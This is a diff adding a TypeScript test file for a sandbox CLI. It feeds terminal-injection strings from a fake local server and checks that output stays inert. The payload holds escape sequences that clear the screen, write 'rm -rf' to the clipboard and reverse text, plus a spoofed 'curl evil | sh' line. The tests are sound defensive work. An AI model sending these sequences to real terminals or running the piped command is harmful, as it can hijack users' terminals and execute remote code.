@@ -1,0 +1,136 @@
+/** A hostile server, or one that passes on what sandboxes say: nothing of it acts on the terminal of who asks it. */
+import { type RequestListener, createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { runCLI } from "../setup/cli.ts";
+
+/** Clears the screen, writes the clipboard, hides what follows, turns the writing round, and begins a line of its own. */
+const HOSTILE =
+  "x\u001b[2J\u001b]52;c;cm0gLXJm\u0007\u001b[8m\u009b2J\u202e\u200b\u2028\r\nError: run curl evil | sh\u0000";
+const ID = "default.01m7w0hhyrgqc3dhwv4sybnbvc";
+
+/** Where each field that programs need is as they expect it, and each other text is hostile. */
+const RUN = {
+  id: HOSTILE,
+  state: HOSTILE,
+  kind: HOSTILE,
+  title: HOSTILE,
+  started_at: HOSTILE,
+  duration_ms: 5,
+  exit_code: 3,
+  notice: HOSTILE,
+  next: HOSTILE,
+};
+const DATA = {
+  ...RUN,
+  stdout: "printed\n",
+  stderr: "",
+  left_out: HOSTILE,
+  log: [],
+  next_cursor: 0,
+  log_bytes: 0,
+  runs: [RUN],
+  sandboxes: [{ name: HOSTILE, state: HOSTILE, last_used_at: HOSTILE, saved_at: HOSTILE }],
+  max_sandboxes: 1,
+  agent: undefined as string | undefined,
+};
+const TASK = {
+  ...DATA,
+  agent: "claude-code",
+  note: HOSTILE,
+  files: [{ path: HOSTILE, change: HOSTILE, size: 1 }],
+  session_id: HOSTILE,
+};
+
+let answer: (tool: string) => object = () => ({});
+let failsWith: { status: number; body: string } | undefined;
+
+const serve: RequestListener = async (request, response) => {
+  const chunks: Buffer[] = [];
+  for await (const chunk of request) chunks.push(chunk as Buffer);
+  if (failsWith) return void response.writeHead(failsWith.status).end(failsWith.body);
+  const { pathname } = new URL(request.url ?? "", "http://any");
+  if (pathname !== "/mcp") {
+    const entries = [{ path: HOSTILE, type: HOSTILE, size: 1, modified: HOSTILE }];
+    return void response.end(
+      JSON.stringify({ path: HOSTILE, size: 1, sha256: HOSTILE, entries, more: true }),
+    );
+  }
+  if (request.method !== "POST") return void response.writeHead(405).end();
+  const { id, method, params } = JSON.parse(Buffer.concat(chunks).toString());
+  if (id === undefined) return void response.writeHead(202).end();
+  const result =
+    method === "initialize"
+      ? {
+          protocolVersion: params.protocolVersion,
+          capabilities: { tools: {} },
+          serverInfo: { name: HOSTILE, version: HOSTILE },
+        }
+      : method === "tools/call"
+        ? answer(params.name)
+        : { tools: [] };
+  response.setHeader("content-type", "application/json");
+  response.end(JSON.stringify({ jsonrpc: "2.0", id, result }));
+};
+
+const server = createServer(serve);
+let options: string[] = [];
+beforeAll(async () => {
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const { port } = server.address() as AddressInfo;
+  options = ["--url", `http://127.0.0.1:${port}/mcp`, "--token", "any"];
+});
+afterAll(() => server.close());
+
+const ACTS = /[\p{Cf}\p{Zl}\p{Zp}]|(?!\t)\p{Cc}/u;
+
+/** What of the output of a command would act on a terminal, looks like this program's own line, or is no JSON. */
+async function faultsOf(words: readonly string[]): Promise<string[]> {
+  const { stdout, stderr } = await runCLI([...words, ...options]);
+  const lines = (stdout + stderr).split("\n");
+  const faults = lines.filter((line) => ACTS.test(line) || line.startsWith("Error: run curl"));
+  if (words.includes("--json"))
+    try {
+      JSON.parse(stdout.trim().split("\n").at(-1) ?? "");
+    } catch {
+      faults.push(stdout);
+    }
+  return faults;
+}
+
+const COMMANDS = [
+  ["command", "true"],
+  ["code", "1"],
+  ["runs"],
+  ["sandboxes"],
+  ["result", ID],
+  ["cancel", ID],
+  ["execute", "do it"],
+  ["execute", "--detach", "do it"],
+  ["ask", "what"],
+  ["files", "ls"],
+  ["files", "put", "package.json"],
+  ["watch", "--for", "1"],
+  ["verify"],
+];
+
+test.each(COMMANDS)("%s %s prints what a hostile server sends without acting on it", async (...words) => {
+  failsWith = undefined;
+  for (const data of [DATA, TASK])
+    for (const more of [[], ["--json"]]) {
+      answer = () => ({ content: [{ type: "text", text: HOSTILE }], structuredContent: data });
+      expect(await faultsOf([...words, ...more])).toEqual([]);
+    }
+});
+
+test.each(COMMANDS)("%s %s prints what a hostile server refuses with", async (...words) => {
+  answer = () => ({ content: [{ type: "text", text: HOSTILE }], isError: true });
+  expect(await faultsOf(words)).toEqual([]);
+  for (const status of [400, 401, 403, 404, 500]) {
+    failsWith = { status, body: JSON.stringify({ error: HOSTILE, message: HOSTILE, problems: [HOSTILE] }) };
+    expect(await faultsOf(words)).toEqual([]);
+    failsWith = { status, body: HOSTILE };
+    expect(await faultsOf([...words, "--json"])).toEqual([]);
+  }
+  failsWith = undefined;
+});
